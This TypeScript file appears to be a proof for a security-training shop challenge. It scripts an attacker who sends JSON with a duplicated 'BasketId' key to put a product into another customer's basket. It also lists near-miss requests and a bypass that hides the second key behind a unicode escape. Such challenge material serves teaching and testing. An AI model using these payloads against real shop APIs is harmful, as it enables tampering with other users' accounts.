import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

/** Sends JSON as text, because an object cannot hold the same field twice. */
const put = (attacker: Attacker, json: string) =>
  attacker.post('/api/BasketItems', json, { headers: { 'content-type': 'application/json' } })

const attempt = (body: (own: number) => string) => async (attacker: Attacker) => {
  const { basketId } = await attacker.becomeCustomer()
  await put(attacker, body(basketId))
}

export const proof = prove(challenge, {
  exploit: attempt((own) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 1, "BasketId": "2"}`),
  nearMisses: {
    'a product for the own basket': attempt((own) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 1}`),
    'the foreign basket alone': attempt(() => '{"ProductId": 14, "BasketId": "2", "quantity": 1}'),
    'the foreign basket first, the own one last': attempt(
      (own) => `{"ProductId": 14, "BasketId": "2", "quantity": 1, "BasketId": "${own}"}`,
    ),
    'the own basket twice': attempt(
      (own) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 1, "BasketId": ${own}}`,
    ),
    'a basket that there is not': attempt(
      (own) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 1, "BasketId": "${own + 1000}"}`,
    ),
    'more of a product than there is, for the foreign basket': attempt(
      (own) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 100000, "BasketId": "2"}`,
    ),
    'an item of the own that is to move': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      const added = await attacker.post('/api/BasketItems', { ProductId: 14, BasketId: basketId, quantity: 1 })
      await attacker.put(`/api/BasketItems/${added.json().data.id}`, { BasketId: 2 })
    },
    'both numbers in one request, without signing in': (attacker) =>
      put(attacker, '{"ProductId": 14, "BasketId": "1", "quantity": 1, "BasketId": "2"}'),
  },
  bypasses: {
    'check-every-mention': attempt(
      (own) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 1, "Basket\\u0049d": "2"}`,
    ),
  },
})
